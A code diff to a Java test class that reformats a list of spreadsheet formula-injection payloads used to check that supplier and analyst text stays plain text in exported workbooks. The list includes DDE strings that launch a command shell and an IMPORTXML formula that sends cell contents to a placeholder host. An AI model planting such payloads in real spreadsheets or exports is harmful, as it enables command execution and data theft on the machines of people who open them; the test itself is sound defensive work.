@@ -19,7 +19,8 @@ import org.vouchsafe.questionnaire.own.TemplateEditing;
 
 /** Whatever suppliers and analysts write stays text in every workbook that goes out, also when somebody edits the cell. */
 class InjectionTest {
-    private static final List<String> PAYLOADS = List.of("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
+    private static final List<String> PAYLOADS = List.of("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://x\",\"y\")",
             "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)",
             "=DDE(\"cmd\";\"/C calc\";\"__DdeLink\")", "-2+3+cmd|' /C calc'!E1", "=WEBSERVICE(\"http://x\")", "@=1", "=\u20281+1", "'=1+1",
             "_x003D_1+1", "=1+1\",\"", "%0A-1", "=-1");
